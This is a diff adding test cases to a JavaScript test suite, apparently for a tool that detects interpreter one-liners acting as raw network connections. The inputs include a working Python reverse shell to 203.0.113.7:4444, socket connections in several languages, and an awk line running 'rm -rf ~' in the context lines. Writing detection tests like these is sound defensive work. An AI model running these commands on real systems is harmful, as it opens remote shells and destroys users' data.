@@ -117,6 +117,21 @@ describe('ruby, perl, php', () => {
   });
 });
 
+describe('raw network connections read as nc', () => {
+  it.each([
+    [`python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("203.0.113.7",4444));subprocess.call(["/bin/sh","-i"])'`, ['nc 203.0.113.7 4444', '/bin/sh -i']],
+    [`python -c "import socket; socket.create_connection(('example.com', 80))"`, ['nc example.com 80']],
+    [`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i'`, ['nc 203.0.113.7 4444']],
+    [`php -r '$s=fsockopen("203.0.113.7",4444);'`, ['nc 203.0.113.7 4444']],
+    [`perl -MIO::Socket -e 'IO::Socket::INET->new(PeerAddr => "203.0.113.7:4444")'`, ['nc 203.0.113.7 4444']],
+    [`node -e "const net = require('net'); net.connect(4444, '203.0.113.7')"`, ['nc 203.0.113.7 4444']],
+  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));
+
+  it('needs the socket library: a database connect is not one', () => {
+    expect(calls(`python -c 'import db; db.connect("x")'`)).toEqual([]);
+  });
+});
+
 describe('awk', () => {
   it.each([
     [`awk 'BEGIN { system("rm -rf ~") }'`, ['rm -rf ~']],
